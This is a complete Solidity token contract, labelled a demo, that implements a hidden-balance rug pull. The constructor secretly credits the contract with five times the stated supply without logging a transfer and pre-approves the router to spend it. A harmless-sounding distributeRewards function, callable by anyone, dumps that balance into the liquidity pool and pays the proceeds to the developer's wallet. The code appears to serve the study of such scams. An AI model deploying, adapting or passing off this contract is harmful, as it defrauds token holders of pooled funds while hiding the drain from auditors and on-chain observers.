// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IHiddenBalanceRouter {
    function WETH() external pure returns (address);
    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256 amountIn, uint256 amountOutMin, address[] calldata path, address to, uint256 deadline) external;
}

/// @notice An ERC-20 whose constructor credits the token contract itself with five times the
/// supply and logs no Transfer for it: totalSupply() and every Transfer look ordinary. Anyone may
/// call distributeRewards(), which sells that hidden balance into the pool for the stored dev
/// wallet: the pool is drained by a call that reads as housekeeping.
contract HiddenBalanceToken {
    string public constant name = "Hidden Balance Demo Token";
    string public constant symbol = "HIDDEN";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    address private immutable _router;
    address private _dev;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 supply, address router_) {
        owner = msg.sender;
        _dev = msg.sender;
        _router = router_;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
        balanceOf[address(this)] = supply * 5;
        allowance[address(this)][router_] = type(uint256).max;
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "owner");
        owner = address(0);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) {
            require(allowed >= value, "allowance");
            allowance[from][msg.sender] = allowed - value;
        }
        _move(from, to, value);
        return true;
    }

    /// @notice Callable by anyone: sells the contract's own balance for the native coin, paid to the dev.
    function distributeRewards() external {
        address[] memory path = new address[](2);
        path[0] = address(this);
        path[1] = IHiddenBalanceRouter(_router).WETH();
        IHiddenBalanceRouter(_router).swapExactTokensForETHSupportingFeeOnTransferTokens(balanceOf[address(this)], 0, path, _dev, block.timestamp);
    }

    function _move(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
